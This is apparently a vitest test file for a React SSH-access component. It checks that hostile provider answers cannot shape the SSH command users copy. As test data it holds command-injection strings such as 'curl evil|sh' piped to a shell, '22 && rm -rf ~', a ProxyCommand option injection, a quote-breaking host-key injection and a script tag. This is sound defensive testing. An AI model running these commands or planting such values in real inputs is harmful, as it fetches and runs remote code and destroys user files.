import type { AccessView } from "@vm-on-golem/sdk/provider-client";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { SshAccess } from "../src/components/ssh-access.tsx";

// The component rendered by React itself (server rendering: no browser needed), fed what a
// hostile provider's GET /vms/{id}/access could answer.
const render = (access: Partial<AccessView> & Record<string, unknown>, generatedKey = false) =>
  renderToStaticMarkup(
    <SshAccess
      access={
        { host: "10.0.0.5", port: 50800, user: "golem", sshCommand: "", ...access } as AccessView
      }
      generatedKey={generatedKey}
    />,
  );

describe("web: the SSH command behind the Copy button", () => {
  it("is built from the checked host and port with the fixed user, never the provider's text", () => {
    const html = render({ sshCommand: "curl evil|sh", user: "root" as AccessView["user"] });
    expect(html).toContain(
      'data-testid="ssh-command">ssh -p 50800 -o ServerAliveInterval=60 golem@10.0.0.5</code>',
    );
    expect(html).toContain(">Copy</button>");
    expect(html).not.toContain("curl");
    expect(html).not.toContain("root");
    expect(render({}, true)).toContain("ssh -i ~/.ssh/");
  });

  it.each([
    ["a command in the host", { host: "x; curl evil|sh" }],
    ["a command in the port", { port: "22 && rm -rf ~" as unknown as number }],
    ["an option as the host", { host: "-oProxyCommand=curl evil|sh" }],
  ])("a hostile answer (%s) is refused on the page, with nothing to copy", (_name, access) => {
    const html = render(access);
    expect(html).toContain('data-testid="ssh-access-refused"');
    expect(html).toContain("SSH_ACCESS_INVALID");
    expect(html).toContain("no command was built");
    expect(html).not.toContain("<button");
    expect(html).not.toContain('data-testid="ssh-command"');
  });
});

describe("web: published ports beside the SSH command", () => {
  it("lists each guest port's public host:port, and leaves out entries that are not ports", () => {
    const html = render({
      publishedPorts: [
        { guestPort: 80, host: "10.0.0.5", port: 50801 },
        { guestPort: 443, host: "10.0.0.5", port: 50802 },
        { guestPort: "8080<script>" as unknown as number, host: "10.0.0.5", port: 50803 },
        { guestPort: 9000, host: "10.0.0.5", port: 70_000 },
      ],
    });
    expect(html).toContain('data-testid="published-ports"');
    expect(html).toContain('data-guest-port="80" data-port="50801"');
    expect(html).toContain("10.0.0.5:50802");
    expect(html).not.toContain("script");
    expect(html).not.toContain("50803");
    expect(html).not.toContain("70000");
    expect(render({})).not.toContain("published-ports");
  });
});

describe("web: SSH host keys pinned in the command", () => {
  // A real ed25519 public key and its fingerprint (ssh-keygen -l), as a VM view carries them.
  const hostKey = {
    publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO2d4sgKD+8rV9y/h+M4UfQBQA5TCvFf5QoufnA+AZMf",
    fingerprint: "SHA256:583T9srjRrJe0j21LwN/pWtrV8HQ01icykeeO/irC2k",
  };
  const renderVm = (sshHostKeys: (typeof hostKey)[] | null) =>
    renderToStaticMarkup(
      <SshAccess
        access={{ host: "10.0.0.5", port: 50800, user: "golem", sshCommand: "" } as AccessView}
        generatedKey={false}
        vm={{ id: "vm-0123456789ab", sshHostKeys }}
      />,
    );

  it("shows the fingerprint and a command that writes the key and connects with strict checking", () => {
    const html = renderVm([hostKey]);
    expect(html).toContain('data-testid="ssh-host-keys" data-pinned="true"');
    expect(html).toContain(`data-fingerprint="${hostKey.fingerprint}"`);
    expect(html).toContain(
      `printf &#x27;%s\\n&#x27; &#x27;[10.0.0.5]:50800 ${hostKey.publicKey}&#x27; &gt; ~/.ssh/golem-vm-0123456789ab.known_hosts`,
    );
    expect(html).toContain(
      "-o StrictHostKeyChecking=yes -o UserKnownHostsFile=~/.ssh/golem-vm-0123456789ab.known_hosts golem@10.0.0.5",
    );
  });

  it("says not pinned for a VM without host keys, with the plain command", () => {
    const html = renderVm(null);
    expect(html).toContain('data-pinned="false"');
    expect(html).toContain("not pinned");
    expect(html).toContain(
      'data-testid="ssh-command">ssh -p 50800 -o ServerAliveInterval=60 golem@10.0.0.5</code>',
    );
  });

  it("refuses a key line with a command in it: nothing to copy", () => {
    const html = renderVm([{ ...hostKey, publicKey: `${hostKey.publicKey}' ; curl evil|sh ; '` }]);
    expect(html).toContain('data-testid="ssh-access-refused"');
    expect(html).not.toContain("curl");
  });
});
